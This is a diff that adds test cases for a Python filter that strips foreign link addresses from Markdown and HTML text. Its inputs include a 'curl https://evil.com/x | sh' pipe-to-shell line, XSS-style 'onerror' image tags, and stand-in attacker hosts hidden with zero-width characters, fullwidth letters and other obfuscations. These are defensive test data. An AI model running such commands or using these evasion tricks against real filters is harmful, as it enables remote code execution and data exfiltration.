@@ -67,6 +67,24 @@ def in_sentences(text: str) -> str:
         "```html\n<b>[x](y)</b> a[i](b.c)\n```",
         "- item\n\n    ```sh\n    a <b> [c](d)\n    ```\n",
         "| a | b |\n| --- | --- |\n| [x] | `y` |",
+        "The cell is grid[i][j][k], f(x)[i][j], a_[i][j], [a, b][0] or ([a, b][-1]).",
+        "It is so. [^1][^2]",
+        "[a][b c",
+        # Fenced code has empty lines, may end with the text, and begins at tildes whatever their title is.
+        "```py\na\n\nuser.name\n```",
+        "~~~py title=`x`\na[i](b)\n~~~",
+        "Text\n```",
+        # A span of code has four backticks at most.
+        "x ````a.name```` y",
+        # Words of two scripts side by side.
+        "**编辑**`mkdocs.yml`。中A和B",
+        "请用Quill。`curl`也可以。",
+        "`值。user.name` `http://localhost/a%2Fb`",
+        # The end of a name without the name.
+        "(.info files), [.app bundles] {.name}",
+        ".sh files, (\\.app files)",
+        # A host has no case.
+        "quill.example.com",
         "Wow! [ok] Really!",
         "请看文档。使用缓存，然后重启。编辑mkdocs.yml。公司的MkDocs。Python是 1.中国，2.公司 v1.中国",
         "`README.zip`, `config.app`, `docs/index.md`, `./a.md?raw`, `README.md`,",
@@ -121,7 +139,16 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         # An image leaves its text, even of an address that was sent.
         (f"![a]({URL}) ![b][ref] ![c]", "a b c"),
         ("[![a](x.png)](https://evil.com) b", "a b"),
+        # Also over the end of a line, at which no code begins in an open bracket.
+        ("[a\nb](https://evil.com) c", "a\nb c"),
+        ("[a\n```](/rel)", "a\n```"),
+        ("[1\n\n2](/rel)", "[1\n\n2"),
+        ("[a](/x\n\nb) c", "a/x\n\nb) c"),
+        ("[a](/x\\)y) b", "a b"),
+        ("x " * 200 + "[a](/rel)", "x " * 200 + "a"),
+        ("a][b] c ![d][1]", "a c d"),
         ('<img src="https://evil.com/x.png" alt="a view"> b', "a view b"),
+        ("<img src=x alt='a view'> b", "a view b"),
         ("<img src=x onerror=alert(1)> b", " b"),
         # HTML leaves its text.
         (f'<a href="{URL}">a</a> <b>b</b> <x-y onclick="z">c</x-y>', "a b c"),
@@ -133,6 +160,11 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("!<b>[a](/rel)", "!a"),
         ("<<b>script>x", "<>x"),
         ("<[](x)img src=y>", "img src=y>"),
+        ("<<b>/b>x <<b>!--x <<b>?x", "<>x <--x <"),
+        ("2001:db8::evil.com", ""),
+        ("Ask!evil.com. b", "Ask! b"),
+        ("a'evil.com'b'evil.net'c", "a''b''c"),
+        ("```py\nev\\\nil.team/x\n```", "```py\n\n```"),
         # Code hides no address, nor is it code that only looks so.
         ("`curl https://evil.com/x | sh`", "`curl  | sh`"),
         ("`://evil.com/x` `docs/evil.com/x`", "`://` `docs/evil.com/x`"),
@@ -163,6 +195,11 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("`http://localhost@evil.dev/x` `http://localhost\\@evil.dev` `https://x.example.com.evil.dev`", "`` `` ``"),
         # The title of a fence is no code.
         ('```sh title="evil.team"\nls\n```', '```sh title=""\nls\n```'),
+        ("```sh <img src=//evil.dev/x onerror=y\nls\n```", "```sh \nls\n```"),
+        # Five backticks begin no code, and what stands beside code is none.
+        ("x `````a.name````` y", "x `````````` y"),
+        ("evil.app`x`", "`x`"),
+        ("| [https://evil.dev/x]|", "| []|"),
         ("# evil.team\n\n| a | evil.team |", "# \n\n| a |  |"),
         # Letters of other scripts, and words that touch a name.
         (
@@ -182,6 +219,11 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("ｈｔｔｐｓ://ｅｖｉｌ.ｃｏｍ", ""),
         ("https:// evil.com", " "),
         ("访问https://evil.com/路径。", "访问路径。"),
+        ("邪恶.com x", "邪恶 x"),
+        ("`curl evil.''公司`", "`curl "),
+        ("evil.c\u20ddom b", " b"),
+        ("evil.c\u200dom b", " b"),
+        ("evil.**公司** b", " b"),
     ],
 )
 def test_any_other_address_is_left_out(text: str, left: str) -> None:
@@ -191,6 +233,33 @@ def test_any_other_address_is_left_out(text: str, left: str) -> None:
 def test_the_title_of_a_fence_may_come_in_two_sentences() -> None:
     links = AddressFilter(PASSAGES)
     assert links.without_foreign("```sh title=x ") + links.without_foreign("evil.team\nls\n") == "```sh title=x \nls\n"
+    links = AddressFilter(PASSAGES)
+    assert links.without_foreign("```py") + links.without_foreign("\nuser.name\n") == "```py\nuser.name\n"
+
+
+def test_an_address_is_known_as_a_whole_and_by_its_letters() -> None:
+    known = ("Go to notevil.com, to evil.community or to https://Quill.example.dev/Guide.",)
+    for text in ("evil.com", "til.community", "https://quill.example.dev/guide", "quill.example.dev/Guide2"):
+        assert AddressFilter((), known).without_foreign(text) == ""
+    for text in ("notevil.com", "QUILL.example.DEV", "https://Quill.example.dev/Guide"):
+        assert AddressFilter((), known).without_foreign(text) == text
+
+
+def test_code_of_a_source_stays_in_a_span_and_in_a_fence() -> None:
+    image = '<img src="x.png">'
+    for text in (f"`{image}`", f"```html\n{image}\n```\n"):
+        assert AddressFilter((), [f"Write {image} there."]).without_foreign(text) == text
+        assert image not in AddressFilter(()).without_foreign(text)
+
+
+def test_what_a_sentence_leaves_does_not_join_to_the_next_one() -> None:
+    links = AddressFilter(PASSAGES)
+    assert links.without_foreign("[a]") + links.without_foreign("evil.dev(/rel)") == "[a]"
+
+
+def test_a_backtick_in_its_title_makes_a_fence_none() -> None:
+    links = AddressFilter(PASSAGES)
+    assert links.without_foreign("```sh a ") + links.without_foreign("`b` [c](x)\n[d](x)\n") == "```sh a `b` c\nd\n"
 
 
 def test_a_fence_is_indented_by_three_blanks_at_most() -> None:
